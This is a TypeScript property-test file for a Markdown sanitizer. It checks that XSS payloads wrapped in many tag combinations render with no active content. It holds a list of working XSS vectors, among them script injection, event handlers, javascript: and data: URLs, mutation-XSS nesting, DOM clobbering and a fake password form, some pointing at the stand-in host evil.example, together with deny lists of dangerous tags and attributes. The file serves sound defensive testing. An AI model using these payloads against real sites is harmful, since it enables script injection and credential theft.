/**
 * Property test of the sanitizer (issue #12): whatever an editor wraps an attack in, the page gets
 * no active content. Markdown goes through the pipeline the site renders with (satteri, raw HTML on,
 * the sanitizer plugin); the output is then read the way a browser reads it (parse5, the HTML
 * standard's parser) and judged by rules written here, independent of the sanitizer's own lists.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { markdownToHtml } from 'satteri';
import { parseFragment } from 'parse5';
import { MARKDOWN_FEATURES, sanitizeMarkdownHtml } from './markdown';

const render = async (md: string) => (await markdownToHtml(md, { hastPlugins: [sanitizeMarkdownHtml], features: MARKDOWN_FEATURES })).html;

/** Attacks an editor might paste. Each carries the marker `evil` where it would act. */
const PAYLOADS = [
  '<script>alert("evil")</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<img src="x.jpg" onerror="alert(\'evil\')" alt="Ảnh">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="evil">',
  '<a href="javascript:alert(\'evil\')">Bấm</a>',
  '<a href="  JaVa&#x09;ScRiPt:alert(1)">Bấm</a>',
  '<a href="&#106;avascript:alert(1)">Bấm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">Tải</a>',
  '<a href="vbscript:msgbox(1)">Bấm</a>',
  '[Bấm](javascript:alert(1))',
  '[Bấm](<javascript:alert(1)>)',
  '![Ảnh](data:image/png;base64,iVBORw0KGgo=)',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>body{background:url(https://evil.example/)}</style>',
  '<p style="position:fixed;inset:0">Che trang</p>',
  '<form action="https://evil.example/"><input name="mat-khau" type="password"><button>Đăng nhập</button></form>',
  '<button formaction="https://evil.example/">Gửi</button>',
  '<input autofocus onfocus="alert(1)">',
  '<object data="https://evil.example/a.swf"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<svg onload="alert(1)"><circle r="5"></circle></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src="x" onerror="alert(1)"></style></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)">',
  '<math href="javascript:alert(1)">x</math>',
  '<details open ontoggle="alert(1)"><summary>Mở</summary>Nội dung</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<video src="x.mp4" onerror="alert(1)"></video>',
  '<audio><source src="x" onerror="alert(1)"></audio>',
  '<body onload="alert(1)">',
  '<frameset onload="alert(1)"></frameset>',
  '<isindex action="javascript:alert(1)">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option>a</option></select>',
  '<img src="x.jpg" name="getElementById" alt="Ảnh">',
  '<div id="__proto__" class="skip-link">Giả mạo</div>',
  '<a href="https://evil.example/" id="location" tabindex="1">Liên kết</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

/** Open and close tags an editor might wrap a payload in: unknown, allowed, refused, foreign, Markdown. */
const WRAPPERS: readonly [string, string][] = [
  ['<x-hop>', '</x-hop>'], ['<custom onclick="alert(1)">', '</custom>'], ['<font color="red">', '</font>'],
  ['<marquee>', '</marquee>'], ['<center>', '</center>'], ['<blink>', '</blink>'], ['<nobr>', '</nobr>'],
  ['<div>', '</div>'], ['<p>', '</p>'], ['<span>', '</span>'], ['<blockquote>', '</blockquote>'],
  ['<details><summary>Xem</summary>', '</details>'], ['<table><tr><td>', '</td></tr></table>'],
  ['<ul><li>', '</li></ul>'], ['<a href="https://hoanghoa.thanhhoa.gov.vn/">', '</a>'], ['<strong>', '</strong>'],
  ['<svg>', '</svg>'], ['<svg><foreignObject>', '</foreignObject></svg>'], ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'], ['<noscript>', '</noscript>'], ['<object>', '</object>'],
  ['<form>', '</form>'], ['<button>', '</button>'], ['<select>', '</select>'], ['<template>', '</template>'],
  ['<picture>', '</picture>'], ['<label>', '</label>'], ['<fieldset>', '</fieldset>'], ['<head>', '</head>'],
  ['<html><body>', '</body></html>'], ['<x-a><x-b>', '</x-b></x-a>'], ['**', '**'], ['> ', ''], ['- ', ''],
  ['1. ', ''], ['[', '](https://hoanghoa.thanhhoa.gov.vn/)'], ['| Cột |\n| --- |\n| ', ' |'], ['', ''],
];

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite', 'srcset', 'longdesc']);
const NEVER = new Set(['script', 'style', 'meta', 'base', 'link', 'form', 'object', 'embed', 'applet', 'frame', 'frameset', 'button', 'textarea', 'select', 'svg', 'math', 'template', 'noscript', 'video', 'audio', 'source', 'body', 'head', 'html', 'isindex']);
const FRAME_HOSTS = ['www.youtube-nocookie.com'];

interface P5Node { nodeName: string; tagName?: string; attrs?: { name: string; value: string }[]; childNodes?: P5Node[]; content?: P5Node }

/** What on this HTML would act, as a browser parses it: empty when nothing does. */
function activeContent(html: string): string[] {
  const found: string[] = [];
  const visit = (node: P5Node) => {
    const tag = node.tagName;
    if (tag) {
      const attrs = new Map((node.attrs ?? []).map((a) => [a.name.toLowerCase(), a.value]));
      if (NEVER.has(tag)) found.push(`<${tag}>`);
      if (tag === 'input' && !(attrs.get('type') === 'checkbox' && attrs.has('disabled') && !attrs.has('name'))) found.push('<input> that is not a disabled checkbox');
      if (tag === 'iframe') {
        let host = '';
        try {
          host = new URL(attrs.get('src') ?? '').protocol === 'https:' ? new URL(attrs.get('src')!).host : '';
        } catch {
          // No address a browser would load from an allowed host.
        }
        if (!FRAME_HOSTS.includes(host) || attrs.has('srcdoc')) found.push(`<iframe src=${attrs.get('src')}>`);
      }
      // The site's own frame around a table (markdown.ts, issue 14): exactly these attributes, holding just the table.
      const tableFrame = tag === 'section' && attrs.size === 3 && attrs.get('class') === 'ctt-table-scroll' && attrs.get('tabindex') === '0' && attrs.has('aria-label')
        && (node.childNodes ?? []).filter((c) => c.tagName).map((c) => c.tagName).join() === 'table';
      for (const [name, value] of attrs) {
        if (tableFrame && (name === 'class' || name === 'tabindex')) continue;
        if (name.startsWith('on')) found.push(`${name}= on <${tag}>`);
        if (name === 'style' || name === 'srcdoc' || name === 'formaction' || name === 'autofocus' || name === 'tabindex') found.push(`${name}= on <${tag}>`);
        if ((name === 'id' || name === 'name') && !value.startsWith('user-content-')) found.push(`${name}="${value}" without the prefix`);
        if (name === 'class' && !/^(task-list-item|contains-task-list|footnotes|sr-only|data-footnote-backref|language-\S+)$/.test(value)) found.push(`class="${value}"`);
        if (URL_ATTRIBUTES.has(name) && /^(javascript|data|vbscript):/i.test(value.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''))) found.push(`${name}="${value}"`);
      }
    }
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content) visit(node.content);
  };
  visit(parseFragment(html) as unknown as P5Node);
  return found;
}

describe('the judge of active content', () => {
  // The judge must itself see what it is there to see, or the property below proves nothing.
  it.each(PAYLOADS.filter((p) => !/^\[|^!\[|<!--|CDATA|<select|<textarea|<body|<isindex|<frameset/.test(p)))('sees the raw payload %s as active', (payload) => {
    expect(activeContent(payload)).not.toEqual([]);
  });
  it('sees nothing in ordinary content', () => {
    expect(activeContent('<p>Chữ <a href="https://a.vn/" rel="noopener noreferrer">liên kết</a> <img src="a.jpg" alt="Ảnh"></p><h2 id="user-content-muc">Mục</h2>')).toEqual([]);
  });
});

describe('no wrapper lets a payload act', () => {
  it.each(WRAPPERS.flatMap(([open, close]) => PAYLOADS.map((p) => [open, p, close] as const)))('%s %s %s', async (open, payload, close) => {
    const md = `Mở đầu.\n\n${open}${payload}${close}\n\nKết thúc.\n`;
    expect(activeContent(await render(md)), md).toEqual([]);
  });

  it('nor does any nesting of wrappers, closed or left open, with noise around them', async () => {
    const wrapper = fc.constantFrom(...WRAPPERS);
    const piece = fc.record({
      wrappers: fc.array(wrapper, { minLength: 1, maxLength: 4 }),
      payloads: fc.array(fc.constantFrom(...PAYLOADS), { minLength: 1, maxLength: 3 }),
      closeUpTo: fc.nat(4),
      blankLines: fc.boolean(),
      text: fc.constantFrom('', 'Chữ', '**đậm**', '\n\n', '<br>', '&lt;', '`mã`'),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 3 }), async (pieces) => {
        const md = pieces
          .map(({ wrappers, payloads, closeUpTo, blankLines, text }) => {
            const gap = blankLines ? '\n\n' : '';
            const opens = wrappers.map(([o]) => o).join(gap);
            const closes = wrappers.slice(0, closeUpTo).reverse().map(([, c]) => c).join(gap);
            return `${opens}${gap}${payloads.join(text)}${gap}${closes}`;
          })
          .join('\n\n');
        expect(activeContent(await render(md)), md).toEqual([]);
      }),
      { seed: 20261203, numRuns: 1500 },
    );
  });
});
